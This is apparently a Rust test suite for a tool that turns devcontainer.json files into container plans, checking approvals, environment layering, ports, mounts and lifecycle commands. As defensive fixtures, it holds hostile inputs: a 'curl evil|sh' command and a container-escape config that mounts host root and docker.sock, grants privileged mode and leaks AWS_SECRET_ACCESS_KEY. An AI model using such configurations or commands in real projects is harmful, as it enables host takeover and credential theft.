//! What a devcontainer.json adds to a plan and to a launch, once a person approved what waits.

use crate::support::{
    answer, approve_all, launch_request, launched, planned, sealed, set, with_devcontainer, words,
};
use orca_container_core::{
    ActionKind, Code, EnvState, LaunchAnswer, Layer, MountKind, Need, Network, PlanAnswer, Planned, Said,
    Severity,
};
use serde_json::{Value, json};

/// A file with an image and more, everything approved.
fn approved(more: &str) -> Value {
    approve_all(with_devcontainer("docker", &format!("{{\"image\": \"acme/dev:1\", {more}}}")))
}

fn create_words(request: &Value) -> Vec<String> {
    let planned = planned(request);
    let command = planned.commands.create.iter().find(|c| c.action == ActionKind::CreateContainer).unwrap();
    words(command)
}

fn codes(planned: &Planned) -> Vec<Code> {
    planned.notices.iter().map(|notice| notice.code).collect()
}

fn entry<'p>(planned: &'p Planned, name: &str) -> &'p orca_container_core::EnvEntry {
    planned.environment.iter().find(|entry| entry.name == name).unwrap()
}

fn launch(request: &Value, more: &[(&str, Value)]) -> LaunchAnswer {
    let mut launch = launch_request();
    for (path, value) in more {
        set(&mut launch, path, value.clone());
    }
    launched(request, &launch).unwrap_or_else(|refusal| panic!("{refusal:#?}"))
}

fn value<'l>(launch: &'l LaunchAnswer, name: &str) -> Option<&'l str> {
    launch.env.get(&format!("ORCA_ENV_{name}")).map(String::as_str)
}

#[test]
fn the_file_counts_only_where_the_image_is_its_own() {
    let mut request = with_devcontainer("docker", r#"{"image": "acme/dev:1", "containerEnv": {"A": "1"}}"#);
    let asked = planned(&request);
    assert_eq!(asked.plan.image.reference, "acme/dev:1");
    assert_eq!(asked.plan.image.said, Said::Repository);
    assert!(matches!(asked.needs.as_slice(), [Need::Approval { .. }]), "{:?}", asked.needs);
    assert_eq!(asked.pending_approvals[0].source.file.as_deref(), Some(".devcontainer/devcontainer.json"));
    set(&mut request, "choices.image", json!("acme/base:1"));
    let other = planned(&request);
    assert_eq!(other.plan.devcontainer, None);
    assert!(other.environment.iter().all(|entry| entry.name != "A"));
}

#[test]
fn a_file_that_is_missing_broken_or_one_of_many_is_refused() {
    let refused = |request: &Value| match answer(request) {
        PlanAnswer::Refused(refusal) => refusal.code,
        PlanAnswer::Planned(_) => panic!("planned"),
    };
    let mut missing = with_devcontainer("docker", "{}");
    missing.as_object_mut().unwrap().remove("devcontainer");
    assert_eq!(refused(&missing), Code::DevcontainerMissing);
    set(
        &mut missing,
        "devcontainerCandidates",
        json!([".devcontainer/a/devcontainer.json", ".devcontainer/b/devcontainer.json"]),
    );
    assert_eq!(refused(&missing), Code::DevcontainerAmbiguous);
    assert_eq!(refused(&with_devcontainer("docker", "{")), Code::DevcontainerSyntax);
    let compose = r#"{"dockerComposeFile": "c.yml", "service": "app"}"#;
    assert_eq!(refused(&with_devcontainer("docker", compose)), Code::ComposeNotSupported);
}

#[test]
fn without_an_image_of_its_own_a_weaker_word_names_it() {
    let request = with_devcontainer("docker", r#"{"containerEnv": {"A": "1"}}"#);
    let planned = planned(&request);
    assert_eq!(
        (planned.plan.image.reference.as_str(), planned.plan.image.said),
        ("acme/base:1", Said::Person)
    );
    assert_eq!(entry(&planned, "A").state, EnvState::Active);
}

#[test]
fn variables_are_the_first_layer_with_their_places() {
    let request = approved(
        r#""remoteEnv": {"B": "remote", "GONE": null, "PATH": "${containerEnv:PATH}:/x"},
           "containerEnv": {"A": "a", "B": "container", "GONE": "x", "MINE": "theirs"}, "runArgs": ["-e", "A=flag", "-eF=f"]"#,
    );
    let mut with_mine = request.clone();
    set(&mut with_mine, "choices.env", json!({"MINE": "mine"}));
    let planned = planned(&with_mine);
    let a = entry(&planned, "A");
    assert_eq!(
        (a.state, a.layer, a.source.line, a.source.path.as_deref()),
        (EnvState::Active, Layer::Image, Some(2), Some("containerEnv.A"))
    );
    assert_eq!(a.shadows[0].source.path.as_deref(), Some("runArgs[0]"));
    assert_eq!(entry(&planned, "GONE").state, EnvState::Removed);
    assert_eq!(entry(&planned, "MINE").layer, Layer::ContainerWorkspace);
    let launch = launch(&request, &[]);
    let values = ["A", "B", "F", "MINE", "PATH"].map(|name| value(&launch, name).unwrap());
    assert_eq!(values, ["a", "remote", "f", "theirs", "/usr/bin:/bin:/x"]);
    assert_eq!(value(&launch, "GONE"), None);
}

#[test]
fn null_takes_a_variable_of_the_image_away() {
    let mut request = with_devcontainer("docker", r#"{"image": "a:1", "remoteEnv": {"FROM_IMAGE": null}}"#);
    set(&mut request, "imageFacts.env", json!(["PATH=/bin", "FROM_IMAGE=1"]));
    let launch = launch(&approve_all(request), &[]);
    let unset = launch.args.iter().position(|arg| arg == "FROM_IMAGE").unwrap();
    assert_eq!(launch.args[unset - 1], "--", "{:?}", launch.args);
}

#[test]
fn a_host_variable_is_put_in_at_launch_once_granted_and_never_read_again() {
    let file = r#"{"image": "a:1", "remoteEnv": {"T": "<${localEnv:TOKEN}>", "D": "${localEnv:TOKEN:none}", "N": "${localEnv:SSH_AUTH_SOCK}"}}"#;
    let request = with_devcontainer("docker", file);
    let waiting = planned(&request);
    assert_eq!(entry(&waiting, "T").state, EnvState::Pending);
    assert_eq!(entry(&waiting, "N").state, EnvState::Dropped);
    let granted = approve_all(request);
    assert_eq!(entry(&planned(&granted), "T").host_names, ["TOKEN"]);
    let with_value = launch(&granted, &[("values.host", json!({"TOKEN": "${localEnv:HOME}"}))]);
    assert_eq!(value(&with_value, "T"), Some("<${localEnv:HOME}>"));
    assert!(!with_value.args.iter().any(|arg| arg.contains("localEnv")));
    let without = launch(&granted, &[]);
    assert_eq!((value(&without, "T"), value(&without, "D")), (None, Some("none")));
    assert!(without.notices.iter().any(|notice| notice.code == Code::HostEnvMissing));
}

#[test]
fn a_redirecting_variable_is_approved_with_its_value() {
    let file =
        |url: &str| format!(r#"{{"image": "a:1", "containerEnv": {{"ANTHROPIC_BASE_URL": "{url}"}}}}"#);
    let one = approve_all(with_devcontainer("docker", &file("https://one")));
    assert_eq!(entry(&planned(&one), "ANTHROPIC_BASE_URL").state, EnvState::Active);
    let mut two = one.clone();
    set(&mut two, "devcontainer.text", json!(file("https://two")));
    assert_eq!(entry(&planned(&two), "ANTHROPIC_BASE_URL").state, EnvState::Pending);
    let request = crate::support::parse(&two);
    let asked = planned(&two).pending_approvals;
    let told = orca_container_core::asked_value(&request, &asked[0]).unwrap();
    assert_eq!(told.reveal(), "https://two");
}

#[test]
fn the_user_is_what_the_images_own_files_say() {
    let mut request =
        with_devcontainer("docker", r#"{"image": "a:1", "remoteUser": "vscode", "containerUser": "other"}"#);
    let facts = request["imageFacts"].take();
    request.as_object_mut().unwrap().remove("imageFacts");
    let need = planned(&request).needs.into_iter().find(|need| matches!(need, Need::Image { .. }));
    assert_eq!(need, Some(Need::Image { reference: "a:1".into(), user: Some("vscode".into()) }));
    request["imageFacts"] = facts;
    for (uid, gid, user) in [(1001, 1002, (1001, 1002)), (0, 0, (1000, 1000)), (5, 0, (1000, 1000))] {
        set(
            &mut request,
            "imageFacts.askedUser",
            json!({"said": "vscode", "uid": uid, "gid": gid, "home": "/home/vscode"}),
        );
        let planned = planned(&request);
        assert_eq!((planned.plan.user.uid, planned.plan.user.gid), user);
        assert_eq!(codes(&planned).contains(&Code::ImageUserUnresolved), user == (1000, 1000));
    }
    set(&mut request, "choices.user", json!("1500:1500"));
    assert_eq!(planned(&request).plan.user.uid, 1500, "a person's word wins");
}

#[test]
fn an_image_that_is_root_by_itself_has_the_user_of_its_label() {
    let mut request = crate::support::request("docker");
    set(&mut request, "imageFacts.user", json!("root"));
    set(&mut request, "imageFacts.uid", json!(0));
    set(&mut request, "imageFacts.gid", json!(0));
    set(
        &mut request,
        "imageFacts.askedUser",
        json!({"said": "vscode", "uid": 1001, "gid": 1001, "home": "/home/vscode"}),
    );
    assert_eq!(planned(&request).plan.user.uid, 1000, "a user that nothing names is not used");
    set(
        &mut request,
        "imageFacts.labels",
        json!({"devcontainer.metadata": r#"[{"remoteUser": "vscode", "privileged": true, "mounts": ["source=/,target=/h,type=bind"]}]"#}),
    );
    let planned = planned(&request);
    assert_eq!(planned.plan.user.uid, 1001);
    assert_eq!(planned.plan.mounts.len(), 2, "nothing else of a label counts");
}

#[test]
fn ports_are_published_on_loopback_within_the_maximum_once_approved() {
    let mut request = with_devcontainer(
        "docker",
        r#"{"image": "a:1", "forwardPorts": [3000, "db:5432"], "appPort": "8080:80", "runArgs": ["-p", "0.0.0.0:9:9"]}"#,
    );
    assert_eq!(planned(&request).plan.ports, []);
    let ports = |request: &Value| -> Vec<u16> {
        planned(request).plan.ports.iter().map(|port| port.container).collect()
    };
    let granted = approve_all(request.clone());
    assert_eq!(ports(&granted), [9, 80, 3000]);
    assert!(planned(&granted).plan.ports.iter().all(|port| port.address == "127.0.0.1"));
    set(&mut request, "globalSettings.maximum", json!({"ports": 1}));
    assert_eq!(ports(&approve_all(request)).len(), 1);
}

#[test]
fn limits_are_lowered_and_never_raised() {
    let request = approved(
        r#""runArgs": ["--memory=1g", "--cpus=64", "--pids-limit=100", "--ulimit=nofile=1024:65536", "--shm-size=256m", "--hostname=dev",
            "--platform=linux/amd64", "--label=team=web", "--network=none"]"#,
    );
    let plan = sealed(&request);
    assert_eq!(
        (plan.limits.memory_bytes, plan.limits.nano_cpus, plan.limits.pids),
        (1 << 30, 2_000_000_000, 100)
    );
    assert_eq!(plan.network.mode, Network::None);
    let words = create_words(&request);
    for word in [
        "--shm-size=268435456",
        "--ulimit=nofile=1024:16384",
        "--hostname=dev",
        "--memory=1073741824",
        "--memory-swap=1073741824",
    ] {
        assert!(words.iter().any(|w| w == word), "{word} in {words:?}");
    }
    assert_eq!(plan.image.platform.as_deref(), Some("linux/amd64"));
}

#[test]
fn a_persons_network_wins_over_a_flag() {
    let mut request = with_devcontainer("docker", r#"{"image": "a:1", "runArgs": ["--network=bridge"]}"#);
    set(&mut request, "choices.network", json!("none"));
    assert_eq!(sealed(&approve_all(request)).network.mode, Network::None);
}

#[test]
fn volumes_are_the_workspaces_own_and_memory_is_capped() {
    let request = approved(
        r#""mounts": ["source=cache,target=/cache", "type=bind,source=/,target=/h", "type=tmpfs,target=/t"]"#,
    );
    let plan = sealed(&request);
    let kinds: Vec<_> = plan.mounts.iter().map(|mount| (mount.kind, mount.target.as_str())).collect();
    assert_eq!(
        kinds,
        [
            (MountKind::Volume, "/workspace"),
            (MountKind::Volume, "/orca/agent"),
            (MountKind::Volume, "/cache"),
            (MountKind::Tmpfs, "/t")
        ]
    );
    let volume = plan.mounts[2].source.clone().unwrap();
    assert!(volume.starts_with(&format!("{}-v-cache-", plan.names.workspace_volume)), "{volume}");
    let words = create_words(&request);
    assert!(words.contains(&format!("--mount=type=volume,src={volume},dst=/cache")), "{words:?}");
    assert!(words.iter().any(|w| w.starts_with("--mount=type=tmpfs,dst=/t,tmpfs-size=")), "{words:?}");
    let planned = planned(&request);
    let init = planned.commands.create.iter().find(|c| c.action == ActionKind::InitVolumes).unwrap();
    assert_eq!(crate::support::words(init).last().unwrap(), "/cache");
    let removed = planned.commands.remove.iter().filter(|c| c.action == ActionKind::RemoveVolume).count();
    assert_eq!(removed, 3);
}

#[test]
fn launches_start_in_the_workspace_folder() {
    let request = approved(r#""workspaceFolder": "/workspaces/acme/web""#);
    let started = launch(&request, &[]).args.clone();
    let at = started.iter().position(|arg| arg == "/workspace/acme/web").unwrap();
    assert!(started[at - 2].contains("cd") && started[at + 1] == "/usr/bin/env", "{started:?}");
    assert!(
        started.contains(&"--workdir=/workspace/acme".into()),
        "an engine fails where a folder is missing"
    );
    let elsewhere = launch(&request, &[("workdir", json!("/tmp"))]);
    assert!(elsewhere.args.contains(&"--workdir=/tmp".into()));
}

/// Whose word an image is does not depend on who said "devcontainer".
#[test]
fn every_image_and_build_of_a_repository_is_asked_for_whatever_word_brought_it() {
    let with_yaml = |text: &str, image: &str| {
        let mut request = with_devcontainer("docker", text);
        set(&mut request, "orcaYaml", crate::support::orca_yaml(&format!("    image: {image}\n")));
        set(&mut request, "repoSettings.commandSourcePolicy", json!("run-both"));
        request
    };
    // The file names none, orca.yaml does.
    let request = with_yaml(r#"{"containerEnv": {"A": "1"}}"#, "evil.example/x:1");
    let asked = planned(&request);
    assert_eq!((asked.plan.image.said, asked.plan.digest.is_none()), (Said::Repository, true));
    assert_eq!(asked.pending_approvals[0].subject["reference"], "evil.example/x:1");
    // orca.yaml's is beyond the maximum, and a person's weaker word brings the file.
    let mut request = with_yaml(r#"{"image": "ghcr.io/acme/other:1"}"#, "evil.example/x:1");
    request["choices"].as_object_mut().unwrap().remove("image");
    set(&mut request, "globalSettings.container.image", json!("devcontainer"));
    set(&mut request, "globalSettings.maximum", json!({"images": ["ghcr.io/acme/"]}));
    let asked = planned(&request);
    assert_eq!((asked.plan.image.said, asked.plan.digest.is_none()), (Said::Repository, true));
    // A build beyond the maximum is neither asked for nor planned, and gives its name to nothing.
    let mut request = with_yaml(BUILD, "devcontainer");
    request["choices"].as_object_mut().unwrap().remove("image");
    set(&mut request, "globalSettings.container.image", json!("ghcr.io/acme/base:1"));
    set(&mut request, "globalSettings.maximum", json!({"images": ["ghcr.io/acme/"]}));
    let plan = planned(&approve_all(request));
    assert_eq!((plan.plan.image.build, plan.plan.image.said), (None, Said::Person));
    assert!(plan.pending_approvals.is_empty() && plan.plan.devcontainer.is_none());
}

#[test]
fn a_name_that_stands_twice_is_refused_wherever_it_would_be_approved() {
    for text in [
        r#"{"image": "a:1", "postCreateCommand": {"a": "curl evil|sh", "a": "npm ci"}}"#,
        r#"{"build": {"dockerfile": "A", "dockerfile": "B"}}"#,
        r#"{"build": {"dockerfile": "A", "args": {"V": "1", "V": "2"}}}"#,
        r#"{"image": "a:1", "containerEnv": {"A": "1", "A": "2"}}"#,
        r#"{"image": "a:1", "mounts": [{"source": "aa", "source": "bb", "target": "/x"}]}"#,
    ] {
        match answer(&with_devcontainer("docker", text)) {
            PlanAnswer::Refused(refusal) => {
                assert_eq!(refusal.code, Code::DevcontainerDuplicateKey, "{text}")
            }
            PlanAnswer::Planned(_) => panic!("planned: {text}"),
        }
    }
}

#[test]
fn a_list_or_a_flag_without_end_is_refused_or_left_out_in_one_finding() {
    let flags = format!(r#"{{"image": "a:1", "runArgs": ["-{}"]}}"#, "i".repeat(900_000));
    let told = planned(&with_devcontainer("docker", &flags)).notices;
    assert!(told.len() < 300 && told.iter().any(|one| one.code == Code::RunArgsUnreadable), "{}", told.len());
    let mounts = vec!["source=/x,target=/h,type=bind"; 15_000];
    let text = json!({"image": "a:1", "mounts": mounts}).to_string();
    match answer(&with_devcontainer("docker", &text)) {
        PlanAnswer::Refused(refusal) => {
            assert_eq!((refusal.code, refusal.problems.len() < 10), (Code::DevcontainerTooLarge, true));
        }
        PlanAnswer::Planned(_) => panic!("planned"),
    }
}

#[test]
fn taking_a_redirecting_variable_away_waits_and_path_stays() {
    let mut request =
        with_devcontainer("docker", r#"{"image": "a:1", "remoteEnv": {"HTTPS_PROXY": null, "PATH": null}}"#);
    set(&mut request, "imageFacts.env", json!(["PATH=/bin", "HTTPS_PROXY=http://p"]));
    let image_only = set_approvals_of(&request, "image");
    let launched = |request: &Value| launch(request, &[]).args.clone();
    assert!(!launched(&image_only).contains(&"HTTPS_PROXY".into()));
    let all = launched(&approve_all(request));
    assert!(all.contains(&"HTTPS_PROXY".into()) && !all.contains(&"PATH".into()));
}

/// Only what is asked of one kind is approved.
fn set_approvals_of(request: &Value, kind: &str) -> Value {
    let pending = planned(request).pending_approvals;
    let of_kind = pending.iter().filter(|asked| asked.kind.as_str() == kind);
    let mut request = request.clone();
    let approvals: Vec<Value> = of_kind.map(|p| json!({"kind": p.kind, "digest": p.digest})).collect();
    set(&mut request, "approvals", json!(approvals));
    request
}

#[test]
fn a_persons_start_variable_is_not_taken_away() {
    let mut request = with_devcontainer("docker", r#"{"image": "a:1", "remoteEnv": {"FOO": null}}"#);
    set(&mut request, "imageFacts.env", json!(["PATH=/bin", "FOO=img"]));
    set(&mut request, "choices.env", json!({"FOO": "mine"}));
    set(&mut request, "choices.startEnv", json!(["FOO"]));
    assert!(!launch(&approve_all(request), &[]).args.contains(&"FOO".into()));
}

#[test]
fn an_approval_stays_in_the_same_worktree() {
    let file = r#"{"image": "a:1", "postCreateCommand": "echo ${devcontainerId}"}"#;
    let request = approve_all(with_devcontainer("docker", file));
    let mut again = request.clone();
    set(&mut again, "workspace.instanceId", json!("instance-2"));
    assert!(planned(&again).pending_approvals.is_empty());
}

#[test]
fn where_no_value_goes_no_command_does() {
    let mut request = with_devcontainer("docker", COMMANDS);
    set(&mut request, "engine.endpoint", json!("plain"));
    assert_eq!(stages(&approve_all(request)), [""; 0]);
}

const COMMANDS: &str = r#"{"image": "a:1", "postCreateCommand": {"one": "echo one; false", "two": ["echo", "two's"]}, "onCreateCommand": ["npm", "ci"],
    "postStartCommand": "echo start", "initializeCommand": "touch /tmp/owned"}"#;

fn stages(request: &Value) -> Vec<&'static str> {
    let plan = planned(request).plan;
    plan.devcontainer.unwrap().commands.iter().map(|command| command.stage.as_str()).collect()
}

#[test]
fn commands_wait_for_a_person_and_run_in_the_order_of_the_specification() {
    let request = with_devcontainer("docker", COMMANDS);
    assert_eq!(stages(&request), [""; 0]);
    assert_eq!(
        stages(&approve_all(request.clone())),
        ["onCreateCommand", "postCreateCommand", "postStartCommand"]
    );
    let mut by_policy = request.clone();
    set(&mut by_policy, "repoSettings.policy", json!({"runRepositoryCommands": true}));
    assert_eq!(stages(&by_policy).len(), 3);
    let mut capped = request;
    set(&mut capped, "globalSettings.maximum", json!({"repositoryCommands": false}));
    assert_eq!(stages(&approve_all(capped)), [""; 0], "no approval reaches above the maximum");
}

#[test]
fn a_command_runs_without_secrets_and_its_text_is_no_argument() {
    let mut request = with_devcontainer("docker", COMMANDS);
    set(&mut request, "secrets", json!([{"name": "NPM_TOKEN"}]));
    set(&mut request, "choices.env", json!({"PLAIN": "p", "S": {"secret": "NPM_TOKEN"}}));
    set(&mut request, "choices.forwardHostEnv", json!(["HOSTED"]));
    set(&mut request, "host.envNames", json!(["HOSTED"]));
    let request = approve_all(request);
    let values = json!({"host": {"HOSTED": "h"}, "secrets": {"NPM_TOKEN": "s"}});
    let run = |stage: &str| {
        let mut launch = launch_request();
        set(&mut launch, "command", json!({"lifecycle": stage}));
        set(&mut launch, "values", values.clone());
        launched(&request, &launch)
    };
    let ran = run("onCreateCommand").unwrap();
    assert_eq!(value(&ran, "LIFECYCLE"), None);
    assert_eq!(value(&ran, "ORCA_LIFECYCLE"), Some("'npm' 'ci'"));
    assert_eq!(value(&ran, "PLAIN"), Some("p"));
    for name in ["S", "NPM_TOKEN", "HOSTED"] {
        assert_eq!(value(&ran, name), None, "{name}");
    }
    assert!(!ran.args.iter().any(|arg| arg.contains("npm")), "{:?}", ran.args);
    assert_eq!(run("postAttachCommand").unwrap_err().code, Code::CommandInvalid);
    let everything = launch(&request, &[("values", values.clone())]);
    assert_eq!(value(&everything, "S"), Some("s"), "a person's launch gets it");
}

#[test]
fn commands_with_names_run_side_by_side_and_one_that_fails_is_named() {
    let mut launch = launch_request();
    set(&mut launch, "command", json!({"lifecycle": "postCreateCommand"}));
    let launch = launched(&approve_all(with_devcontainer("docker", COMMANDS)), &launch).unwrap();
    let script = value(&launch, "ORCA_LIFECYCLE").unwrap();
    let ran = std::process::Command::new("/bin/sh").args(["-c", script]).output().unwrap();
    let mut lines: Vec<&str> = std::str::from_utf8(&ran.stdout).unwrap().lines().collect();
    lines.sort_unstable();
    assert_eq!((lines.as_slice(), ran.status.code()), (["one", "two's"].as_slice(), Some(1)));
    assert_eq!(String::from_utf8(ran.stderr).unwrap(), "one ended with 1\n");
}

const BUILD: &str = r#"{"build": {"dockerfile": "Dockerfile", "context": "..", "target": "dev", "args": {"V": "1", "EVIL": "${localEnv:HOME}"},
    "options": ["--no-cache", "--network=host"]}}"#;

#[test]
fn a_build_is_asked_for_by_the_digest_of_its_dockerfile_and_its_block() {
    let mut request = with_devcontainer("docker", BUILD);
    request.as_object_mut().unwrap().remove("imageFacts");
    let first = planned(&request);
    assert!(
        first.needs.contains(&Need::Dockerfile { path: ".devcontainer/Dockerfile".into() }),
        "{:?}",
        first.needs
    );
    let read = |digest: &str| json!({"path": ".devcontainer/Dockerfile", "digest": digest.repeat(64), "text": format!("FROM {digest}:1\n")});
    set(&mut request, "devcontainer.dockerfile", read("a"));
    let granted = approve_all(request);
    let planned_build = planned(&granted);
    assert!(
        !planned_build
            .needs
            .iter()
            .any(|need| matches!(need, Need::Approval { .. } | Need::Dockerfile { .. }))
    );
    let build = planned_build.plan.image.build.clone().unwrap();
    assert_eq!((build.context.as_str(), build.target.as_deref()), (".", Some("dev")));
    assert_eq!(build.arguments.keys().collect::<Vec<_>>(), ["V"], "nothing of this computer");
    assert_eq!(build.options, ["--no-cache"]);
    let mut other = granted.clone();
    set(&mut other, "devcontainer.dockerfile", read("b"));
    assert!(
        planned(&other).needs.iter().any(|need| matches!(need, Need::Approval { .. })),
        "another Dockerfile is another build"
    );
}

/// The very file that was given to the reference CLI.
#[test]
fn the_hostile_file_of_the_benchmark_gets_nothing_either() {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../tests/golden/devcontainer/hostile-file-of-the-benchmark/devcontainer.json"
    );
    let text = std::fs::read_to_string(path).unwrap();
    let request = approve_all(with_devcontainer("docker", &text));
    let image = planned(&request).plan.image.reference;
    let plain = approve_all(with_devcontainer("docker", &format!("{{\"image\": {image:?}}}")));
    let words = |request: &Value| -> Vec<String> {
        create_words(request).into_iter().filter(|word| !word.starts_with("--label=orca.plan")).collect()
    };
    assert_eq!(words(&request), words(&plain), "the same container, word for word");
}

/// The file that made the reference CLI run a command on the host, mount it and give all privileges.
const HOSTILE: &str = r#"{
    "image": "a:1",
    "initializeCommand": "touch /tmp/owned",
    "privileged": true,
    "capAdd": ["SYS_ADMIN"],
    "securityOpt": ["seccomp=unconfined"],
    "mounts": ["source=/,target=/host,type=bind", "source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind"],
    "runArgs": ["--pid=host", "--device=/dev/kmsg"],
    "containerEnv": {"LEAK": "${localEnv:AWS_SECRET_ACCESS_KEY}"},
    "remoteUser": "root"
}"#;

#[test]
fn a_hostile_file_gets_nothing_even_when_everything_is_approved() {
    let request = approve_all(with_devcontainer("docker", HOSTILE));
    let plain = approve_all(with_devcontainer("docker", r#"{"image": "a:1"}"#));
    let without_labels = |request: &Value| -> Vec<String> {
        create_words(request).into_iter().filter(|word| !word.starts_with("--label=orca.plan")).collect()
    };
    assert_eq!(without_labels(&request), without_labels(&plain), "the same container, word for word");
    let planned = planned(&request);
    let dropped = planned.notices.iter().filter(|notice| notice.severity == Severity::Dropped);
    let lines: Vec<u32> = dropped.filter_map(|notice| notice.source.line).collect();
    assert_eq!(lines, [7, 7, 8, 8, 3, 4, 5, 6, 10], "{:#?}", planned.notices);
    assert_eq!(planned.plan.user.uid, 1000);
}
